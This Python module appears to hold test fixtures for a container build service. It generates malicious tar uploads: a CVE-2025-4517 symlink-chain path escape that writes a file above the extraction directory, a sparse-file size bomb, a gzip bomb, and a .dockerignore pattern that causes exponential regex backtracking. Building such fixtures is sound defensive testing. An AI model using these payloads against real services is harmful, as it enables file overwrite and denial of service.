"""Crafted uploads: tars an attacker with an ordinary user token would push."""

from __future__ import annotations

import io
import tarfile
import zlib
from collections.abc import Iterable

DOCKERFILE = b"FROM scratch\nBOGUS instruction that the engine refuses at once\n"


def _add(tar: tarfile.TarFile, name: str, data: bytes = b"", *, kind: bytes = tarfile.REGTYPE,
         link: str = "", pax: dict[str, str] | None = None) -> None:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.mode = 0o755
    info.linkname = link
    if pax:
        info.pax_headers = dict(pax)
    info.size = len(data) if kind in (tarfile.REGTYPE, tarfile.AREGTYPE) else 0
    tar.addfile(info, io.BytesIO(data) if info.size else None)


def tar_of(members: Iterable[tuple[str, bytes, bytes, str]], *, with_dockerfile: bool = True,
           fmt: int = tarfile.PAX_FORMAT) -> bytes:
    """A tar of `(name, data, type, linkname)` members (plus a Dockerfile at the top)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tar:
        if with_dockerfile:
            _add(tar, "Dockerfile", DOCKERFILE)
        for name, data, kind, link in members:
            _add(tar, name, data, kind=kind, link=link)
    return buf.getvalue()


def long_symlink_chain(*, up: int, name: str, content: bytes) -> bytes:
    """CVE-2025-4517: symlinks through directories with 247-character names make the path
    longer than PATH_MAX, where `os.path.realpath` stops resolving, so the `data` filter
    accepts a link `escape` that points `up` levels above the extraction directory; then a
    file is written through it."""
    comp = "d" * 247
    steps = "abcdefghijklmnop"
    members: list[tuple[str, bytes, bytes, str]] = []
    path = ""
    for s in steps:
        members.append((f"{path}{comp}", b"", tarfile.DIRTYPE, ""))
        members.append((f"{path}{s}", b"", tarfile.SYMTYPE, comp))
        path = f"{path}{comp}/"
    linkpath = "/".join(steps)
    members.append((f"{linkpath}/{'l' * 254}", b"", tarfile.SYMTYPE, "../" * len(steps)))
    members.append(("escape", b"", tarfile.SYMTYPE,
                    f"{linkpath}/{'l' * 254}/" + "../" * up))
    members.append((f"escape/{name}", content, tarfile.REGTYPE, ""))
    return tar_of(members)


def sparse_tar(*, realsize: int) -> bytes:
    """A tiny tar declaring one GNU sparse file (PAX 1.0) of `realsize` bytes."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        _add(tar, "Dockerfile", DOCKERFILE)
        sparse_map = b"1\n%d\n1\n" % (realsize - 1)
        sparse_map += b"\0" * (-len(sparse_map) % 512)
        data = sparse_map + b"x"
        info = tarfile.TarInfo("GNUSparseFile.0/big.bin")
        info.size = len(data)
        info.pax_headers = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0",
                            "GNU.sparse.name": "big.bin",
                            "GNU.sparse.realsize": str(realsize)}
        tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_bomb(*, members: int, member_mib: int = 1) -> bytes:
    """A gzipped tar of `members` files of zeros (`members` MiB unpacked, ~1 KB per MiB)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    head = tarfile.TarInfo("Dockerfile")
    head.size = len(DOCKERFILE)
    out = [comp.compress(head.tobuf(format=tarfile.PAX_FORMAT) + DOCKERFILE
                         + b"\0" * (-len(DOCKERFILE) % 512))]
    zeros = b"\0" * (member_mib * 2**20)
    for i in range(members):
        info = tarfile.TarInfo(f"zeros/{i}.bin")
        info.size = len(zeros)
        out.append(comp.compress(info.tobuf(format=tarfile.PAX_FORMAT)))
        out.append(comp.compress(zeros))
    out.append(comp.compress(b"\0" * 1024))
    out.append(comp.flush())
    return b"".join(out)


def backtracking_dockerignore(*, stars: int) -> bytes:
    """A project whose .dockerignore line has many `**/` and a file it almost matches: a
    regex translation of it backtracks exponentially."""
    line = "**/" * stars + "x"
    deep = "/".join(["a"] * 30) + "/y"
    return tar_of([(".dockerignore", (line + "\n").encode(), tarfile.REGTYPE, ""),
                   (deep, b"data", tarfile.REGTYPE, "")])


def zstd_frame(data: bytes) -> bytes:
    """`data` as a valid zstd frame of raw blocks (what `zstd -dc` reads back), made here so
    no zstd library or binary is needed. At least 256 bytes, at most 64 KiB + 256."""
    out = (0xFD2FB528).to_bytes(4, "little") + bytes([0x60]) + \
        (len(data) - 256).to_bytes(2, "little")
    step = 1 << 17
    for i in range(0, len(data), step):
        block = data[i:i + step]
        last = 1 if i + step >= len(data) else 0
        out += ((len(block) << 3) | last).to_bytes(3, "little") + block
    return out
